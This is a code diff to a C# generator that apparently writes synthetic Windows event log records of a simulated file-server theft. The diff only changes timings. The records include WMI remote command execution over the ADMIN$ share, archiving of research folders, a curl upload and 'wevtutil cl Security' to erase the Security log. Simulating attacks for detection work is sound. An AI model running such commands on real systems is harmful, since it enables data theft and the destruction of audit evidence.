@@ -103,7 +103,7 @@ internal sealed class FileServerTheft(EvtxRecordForm form, Chance chance)
     /// <summary>In, over the administrative share, with a service; the research folders into an archive; the archive out.</summary>
     public EvtxWriteEvent[] Theft()
     {
-        var start = Evening.AddMinutes(1).AddTicks(3_318_870);
+        var start = Evening.AddMinutes(1).AddSeconds(26).AddTicks(3_318_870);
         var rar = @"C:\Windows\Temp\Rar.exe";
         var pack =
             rar
@@ -138,7 +138,7 @@ internal sealed class FileServerTheft(EvtxRecordForm form, Chance chance)
                 System32 + "services.exe"
             ),
             Run(
-                start.AddMinutes(3),
+                start.AddMinutes(3.31),
                 0x1B08,
                 Cmd,
                 @"cmd.exe /Q /c dir D:\Research\Stability 1> \\127.0.0.1\ADMIN$\__1612384472.83 2>&1",
@@ -146,16 +146,23 @@ internal sealed class FileServerTheft(EvtxRecordForm form, Chance chance)
                 System32 + @"wbem\WmiPrvSE.exe"
             ),
             Run(
-                start.AddMinutes(6),
+                start.AddMinutes(6.72),
                 0x1C2C,
                 Cmd,
                 @"cmd.exe /Q /c C:\Windows\Temp\pack.cmd 1> \\127.0.0.1\ADMIN$\__1612384472.83 2>&1",
                 0xE4C,
                 System32 + @"wbem\WmiPrvSE.exe"
             ),
-            Run(start.AddMinutes(6.01), 0x1C90, rar, pack, 0x1C2C, Cmd),
-            Run(start.AddMinutes(31), 0x1D14, System32 + "curl.exe", upload, 0x1C2C, Cmd),
-            Run(start.AddMinutes(54), 0x1E70, System32 + "wevtutil.exe", "wevtutil cl Security", 0x1C2C, Cmd),
+            Run(start.AddMinutes(6.73), 0x1C90, rar, pack, 0x1C2C, Cmd),
+            Run(start.AddMinutes(31.44), 0x1D14, System32 + "curl.exe", upload, 0x1C2C, Cmd),
+            Run(
+                start.AddMinutes(54).AddSeconds(40),
+                0x1E70,
+                System32 + "wevtutil.exe",
+                "wevtutil cl Security",
+                0x1C2C,
+                Cmd
+            ),
         ];
     }
 
